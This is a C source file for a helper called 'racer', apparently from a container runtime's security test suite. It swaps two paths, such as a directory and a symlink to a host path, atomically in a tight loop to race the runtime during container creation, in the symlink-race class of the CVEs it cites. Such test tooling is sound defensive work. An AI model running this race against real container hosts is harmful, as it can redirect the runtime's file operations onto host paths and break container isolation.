/*
 * racer A B [SECONDS]: swap the names A and B atomically (renameat2 RENAME_EXCHANGE) in a tight
 * loop, e.g. a real directory and a symlink to a host path, so that whoever resolves A sees
 * one or the other. Runs until killed or for SECONDS (default 60); prints the number of swaps
 * on SIGTERM/exit. A host-side attacker racing the runtime during create (CVE-2021-30465,
 * CVE-2023-27561, CVE-2024-45310 class).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stop;
static void on_term(int sig) { (void)sig; stop = 1; }

int main(int argc, char **argv) {
  if (argc < 3) {
    fprintf(stderr, "usage: racer A B [SECONDS]\n");
    return 2;
  }
  double secs = argc > 3 ? atof(argv[3]) : 60;
  signal(SIGTERM, on_term);
  signal(SIGINT, on_term);
  struct timespec t0, t;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  unsigned long swaps = 0, errors = 0, n = 0;
  /* ready: the caller waits for this line before it starts the runtime */
  printf("ready\n");
  fflush(stdout);
  while (!stop) {
    if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0) swaps++;
    else errors++;
    if ((++n & 0xfff) == 0) {
      clock_gettime(CLOCK_MONOTONIC, &t);
      if ((t.tv_sec - t0.tv_sec) + (t.tv_nsec - t0.tv_nsec) / 1e9 > secs) break;
    }
  }
  printf("swaps %lu errors %lu\n", swaps, errors);
  return 0;
}
